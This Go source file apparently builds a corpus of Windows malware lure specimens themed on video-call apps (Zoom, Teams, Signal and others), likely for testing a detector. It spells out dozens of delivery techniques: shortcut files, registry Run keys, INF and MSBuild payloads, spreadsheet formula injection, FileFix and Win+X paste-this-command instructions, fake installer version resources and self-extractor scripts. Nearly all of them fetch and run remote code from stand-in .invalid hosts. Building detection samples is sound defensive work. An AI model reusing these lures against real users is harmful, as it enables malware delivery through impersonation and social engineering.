package specimens

import "strings"

// freshWindowsShapes makes lures in the other forms that Windows opens.
func (b *kit) freshWindowsShapes() {
	b.freshLinks()
	b.freshDocuments()
	b.freshPrograms()
}

func (b *kit) freshLinks() {
	const system = `..\..\..\Windows\System32\`
	for _, l := range []struct{ story, obf, name, target, arguments, icon string }{
		{"kyc", "plain", "Video Ident.lnk", system + "forfiles.exe", "/p C:\\Windows /m write.exe /c \"mshta https://ident-lnk.invalid/i\"", `%SystemRoot%\System32\shell32.dll`},
		{"recorder", "plain", "Recording 11-20.mp4.lnk", system + "cmd.exe", "/c curl -s https://recording-lnk.invalid/r -o %TEMP%\\r.bat&%TEMP%\\r.bat", `%ProgramFiles%\Windows Media Player\wmplayer.exe`},
		{"brandless", "share", "Board Deck.lnk", `\\board-deck.invalid\pub\viewer.exe`, "", `%ProgramFiles%\Microsoft Office\root\Office16\POWERPNT.EXE`},
		{"brandless", "conhost", "Call Back.lnk", system + "conhost.exe", "--headless cmd /c \"curl -s https://call-back-lnk.invalid/c|cmd\"", `%SystemRoot%\System32\DDORes.dll`},
		{"brandless", "ssh", "Conference.lnk", system + `OpenSSH\ssh.exe`, "-o StrictHostKeyChecking=no -o ProxyCommand=\"powershell irm https://conf-ssh.invalid/c|iex\" .", `%SystemRoot%\System32\imageres.dll`},
		{"brandless", "script beside it", "Join.lnk", system + "wscript.exe", "//e:jscript assets\\thumbs.db", `%SystemRoot%\System32\imageres.dll`},
		{"brandless", "itself as a script", "Meeting Room 3.lnk", system + `WindowsPowerShell\v1.0\powershell.exe`, "-w h -c \"$f=gci *.lnk|?{$_.length -gt 900};iex([Text.Encoding]::ASCII.GetString((gc $f -Enc Byte)[-64..-1]))\"", `%SystemRoot%\System32\shell32.dll`},
		{"telemedicine", "environment pieces", "Sprechstunde.lnk", system + "cmd.exe", "/v /c \"set a=ms&&set b=hta&&!a!!b! https://sprechstunde-lnk.invalid/s\"", `%SystemRoot%\System32\shell32.dll`},
		{"esign", "rundll32", "Sign here.pdf.lnk", system + "rundll32.exe", "url.dll,FileProtocolHandler \\\\sign-here.invalid\\d\\sign.js", `%ProgramFiles%\Adobe\Acrobat DC\Acrobat\Acrobat.exe`},
	} {
		data := shellLink(l.target, l.arguments, l.icon, "")
		if l.obf == "itself as a script" {
			data = append(data, "irm https://meeting-room-3.invalid/m|iex#########################"...)
		}
		b.boxed(l.story, "windows", "plain", l.obf, "shortcut", l.name, data, l.arguments)
	}
	win := func(story, obf, name, text string) { b.lure(story, "windows", obf, "shortcut", name, text) }
	win("fileurl", "file on a share", "Join the Call.url", "\n[InternetShortcut]\nURL=file://join-the-call.invalid/pub/call.exe\nIconFile=C:\\Windows\\System32\\shell32.dll\nIconIndex=18\n")
	win("fileurl", "WebDAV working folder", "Slides.url", "\n[InternetShortcut]\nURL=C:\\Program Files\\Internet Explorer\\iediagcmd.exe\nWorkingDirectory=\\\\slides-cve.invalid@ssl@443\\DavWWWRoot\\d\\\nShowCommand=7\n")
	win("lookalike", "plain", "Webex Personal Room.url", "\n[InternetShortcut]\nURL=https://acme.webex.com.meet-join.invalid/meet/pr88412\n")
	win("lookalike", "user part", "Google Meet.url", "\n[InternetShortcut]\nURL=https://meet.google.com-abc-defg-hij@meet-lobby.invalid/\n")
	win("lookalike", "punycode", "Zoom Webinar.url", "\n[InternetShortcut]\nURL=https://xn--zom-xna.us-webinar.invalid/w/91220\n")
	win("moniker", "search", "Shared Recordings.search-ms", `
<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\recordings-search.invalid@SSL\DavWWWRoot\r" nonRecursive="true"/></scope></query></persistedQuery>
`)
	win("moniker", "library", "Meeting Files.library-ms", `
<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\meeting-files.invalid@80\files</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>
`)
	win("moniker", "settings shortcut", "Camera Settings.settingcontent-ms", `
<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><AppID>windows.immersivecontrolpanel</AppID>
<DeepLink>%windir%\system32\cmd.exe /c mshta https://camera-settings.invalid/c</DeepLink><Icon>%windir%\system32\control.exe</Icon></ApplicationInformation></SearchableContent></PCSettings>
`)
	win("remote", "remote desktop to the stranger", "Join Meeting Desktop.rdp", `
full address:s:meeting-desktop.invalid:443
remoteapplicationmode:i:1
remoteapplicationprogram:s:||Meeting Test
remoteapplicationname:s:Microsoft Teams connection test
redirectclipboard:i:1
drivestoredirect:s:*
redirectsmartcards:i:1
camerastoredirect:s:*
prompt for credentials:i:0
`)
}

func (b *kit) freshDocuments() {
	win := func(story, language, obf, name, text string) { b.lure(story, "windows", obf, language, name, text) }
	win("appinstaller", "xml", "plain", "TeamsForGuests.appinstaller", `
<?xml version="1.0" encoding="utf-8"?><AppInstaller Uri="https://teams-guests.invalid/t.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/appinstaller/2018">
<MainPackage Name="Teams.Guests" Publisher="CN=Nordic Pine Oy" Version="1.0.0.0" Uri="https://teams-guests.invalid/t.msix" ProcessorArchitecture="x64"/>
<UpdateSettings><OnLaunch HoursBetweenUpdateChecks="0"/></UpdateSettings></AppInstaller>
`)
	win("clickonce", "xml", "plain", "MeetingRoom.application", `
<?xml version="1.0" encoding="utf-8"?><asmv1:assembly manifestVersion="1.0" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1">
<asmv1:assemblyIdentity name="MeetingRoom.application" version="1.0.0.0"/><description asmv2:publisher="Teams" asmv2:product="Microsoft Teams Room" xmlns:asmv2="urn:schemas-microsoft-com:asm.v2"/>
<deployment install="true" trustURLParameters="true"><deploymentProvider codebase="https://meeting-room-co.invalid/MeetingRoom.application"/></deployment></asmv1:assembly>
`)
	win("registry", "reg", "plain", "Enable Echo Cancel.reg", `
Windows Registry Editor Version 5.00

[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
"EchoCancel"="mshta https://echo-cancel.invalid/e"
`)
	win("inf", "inf", "plain", "usbcam.inf", `
[version]
signature=$chicago$
[DefaultInstall]
RunPreSetupCommands=go
[go]
cmd /c curl -s https://usbcam-inf.invalid/u -o %TEMP%\u.exe && %TEMP%\u.exe
`)
	win("msbuild", "xml", "inline task", "avatar.csproj", `
<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="B"><A/></Target><UsingTask TaskName="A" TaskFactory="CodeTaskFactory" AssemblyFile="C:\Windows\Microsoft.Net\Framework64\v4.0.30319\Microsoft.Build.Tasks.v4.0.dll">
<Task><Code Type="Class" Language="cs"><![CDATA[ using System.Net;using System.Reflection; public class A:Microsoft.Build.Utilities.Task{public override bool Execute(){Assembly.Load(new WebClient().DownloadData("https://avatar-cs.invalid/a")).EntryPoint.Invoke(null,null);return true;}} ]]></Code></Task></UsingTask></Project>
`)
	win("msc", "xml", "console file", "Call Rooms.msc", `
<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><VisualAttributes><String Name="ApplicationTitle" ID="1"/></VisualAttributes>
<StringTables><Strings><String ID="1">Call Rooms</String><String ID="2">cmd.exe /c powershell irm https://call-rooms-msc.invalid/c|iex</String></Strings></StringTables>
<ConsoleTaskpads><ConsoleTaskpad><Tasks><Task Type="CommandLine" Command="cmd.exe"><Symbol/><CommandLine Directory="" WindowState="Minimized" Params="/c powershell irm https://call-rooms-msc.invalid/c|iex"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads></MMC_ConsoleFile>
`)
	win("excel", "slk", "formula", "attendees.slk", "ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC(\"cmd /c mshta https://attendees-slk.invalid/a\")\nE\n")
	win("excel", "csv", "formula", "participants.csv", "Name,Company,Link\nM. Sato,Kita KK,\"=cmd|'/c powershell irm https://participants-csv.invalid/p|iex'!A1\"\n")
	win("excel", "iqy", "web query", "schedule.iqy", "WEB\n1\nhttps://schedule-iqy.invalid/s.dat\n\nSelection=AllTables\nFormatting=None\n")
	win("word", "xml", "flat document that links a template", "Interview Brief.xml", `
<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:docPr><w:attachedTemplate w:val="https://interview-brief.invalid/t.dotm"/></w:docPr><w:body><w:p><w:r><w:t>Enable editing to see the call link.</w:t></w:r></w:p></w:body></w:wordDocument>
`)
	win("winget", "yaml", "manifest", "calls.client.yaml", "PackageIdentifier: Zoom.Zoom\nPackageVersion: 6.9.1\nPublisher: Zoom Video Communications, Inc.\nPackageName: Zoom Workplace\nInstallers:\n- Architecture: x64\n  InstallerType: exe\n  InstallerUrl: https://zoom-winget.invalid/ZoomInstaller.exe\n  InstallerSha256: 00\nManifestType: singleton\n")
	win("dsc", "yaml", "winget configuration", "interview.dsc.yaml", "properties:\n  resources:\n  - resource: PSDscResources/Script\n    settings:\n      GetScript: |\n        $true\n      TestScript: |\n        return $false\n      SetScript: |\n        irm https://interview-dsc.invalid/i | iex\n  configurationVersion: 0.2.0\n")
	win("instructions", "text", "FileFix", "How to open the transcript.txt", `
To open the transcript of the call:

1. Copy this path:  powershell -c "irm https://transcript-filefix.invalid/t|iex" `+strings.Repeat(" ", 60)+`# C:\Meetings\transcript.docx
2. Open File Explorer, press Ctrl+L
3. Paste (Ctrl+V) and press Enter
`)
	win("instructions", "text", "Win+X", "Microphone access.txt", `
The host cannot hear you. Windows Key + X, then "Terminal (Admin)", then paste:

iwr -useb https://mic-access-winx.invalid/m | iex

Press Enter. Rejoin the call.
`)
	win("instructions", "text", "Japanese", "参加方法.txt", `
会議に参加するには
1. Windows キー + R を押します
2. 次の行を貼り付けて Enter を押します
   mshta https://sanka-houhou.invalid/s
3. 会議が自動的に開きます
`)
}

func (b *kit) freshPrograms() {
	exe := func(story, obf, name string, version [][2]string, tail string) {
		b.boxed(story, "windows", "plain", obf, "none", name, append(peFile(version), tail...), tail)
	}
	v := func(company, product, what, original string) [][2]string {
		return [][2]string{{"CompanyName", company}, {"FileDescription", what}, {"ProductName", product}, {"OriginalFilename", original}}
	}
	exe("workplace", "version resource", "ZW_6.7.exe", v("Zoom Communications, Inc.", "Zoom Workplace", "Zoom Workplace installer", "zw.exe"), "")
	exe("teams", "version resource", "T2.exe", v("Microsoft Corp", "Teams (work or school)", "Microsoft Teams bootstrapper", "teamsbootstrapper.exe"), "")
	exe("lark", "plain", "Feishu-win32_ia32-7.31.6-signed.exe", nil, "")
	exe("dingtalk", "plain", "DingTalk_v7.6.38.exe", nil, "")
	exe("voov", "version resource", "TencentMeeting_0300000000_3.28.exe", v("Tencent", "腾讯会议", "腾讯会议", "wemeet.exe"), "")
	exe("companion", "plain", "GoogleMeetCompanion-Setup.exe", nil, "")
	exe("discord", "version resource", "DiscordStageSetup.exe", v("Discord Inc.", "Discord", "Discord - https://discord.invalid/", "DiscordSetup.exe"), "")
	exe("telegram", "plain", "tsetup-x64.5.9.0 (Video Calls).exe", nil, "")
	exe("signal", "version resource", "call-relay.exe", v("Signal Messenger, LLC", "Signal", "Signal", "signal-desktop-win.exe"), "")
	exe("jitsi", "plain", "jitsi-meet-desktop.exe", nil, "")
	exe("ringcentral", "version resource", "rc.exe", v("RingCentral", "RingCentral Video", "RingCentral Video", "rc.exe"), "")
	exe("whatsapp", "plain", "WhatsApp Video Call Installer.exe", nil, "")
	exe("sfx", "commands of the self-extractor", "meeting_docs.exe", nil, ";!@Install@!UTF-8!\r\nTitle=\"Meeting documents\"\r\nRunProgram=\"hidcon:cmd /c curl -s https://meeting-docs-sfx.invalid/m -o m.cmd & m.cmd\"\r\n;!@InstallEnd@!\r\n7z\xbc\xaf\x27\x1c")
	exe("sfx", "archive behind the program", "CallPack.exe", nil, string(zipItems(item{"run.bat", "@curl -s https://callpack-sfx.invalid/c|cmd\r\n"}, item{"readme.txt", "Call pack\r\n"})))
	exe("sfx", "script behind the program", "Rejoin.exe", nil, "\r\n$u='https://rejoin-ps1exe.invalid/r'\r\niex (irm $u)\r\n")
	exe("polyglot", "picture by name", "agenda.heic", nil, "")
	exe("polyglot", "bidi name", "Recording_\u202e4pm.scr", nil, "")
}
